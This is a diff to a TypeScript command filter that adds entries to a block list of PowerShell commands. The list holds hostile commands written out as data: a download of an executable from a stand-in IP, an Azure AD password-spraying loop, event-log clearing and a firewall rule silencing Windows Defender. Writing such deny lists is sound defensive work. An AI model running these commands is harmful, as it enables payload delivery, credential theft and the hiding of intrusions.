@@ -9,6 +9,8 @@ const decision = (command: string): string => {
 }
 
 const BLOCK: readonly string[] = [
+  'Get-Acl HKLM:\\SYSTEM\\CurrentControlSet\\Services\\*',
+  "$d = (New-Object System.Net.WebClient).DownloadData('http://203.0.113.9/f'); [IO.File]::WriteAllBytes('C:\\Users\\Public\\a.exe', $d)",
   "foreach ($p in Get-Content words.txt) { $c = New-Object System.Management.Automation.PSCredential('bob@corp.example', (ConvertTo-SecureString $p -AsPlainText -Force)); try { Connect-AzureAD -Credential $c } catch { } }",
   'Get-WmiObject -Class Win32_NTEventlogFile | ForEach-Object { $_.ClearEventlog() }',
   'New-NetFirewallRule -DisplayName x -Direction Outbound -Program "C:\\Program Files\\Windows Defender\\MsMpEng.exe" -Action Block',
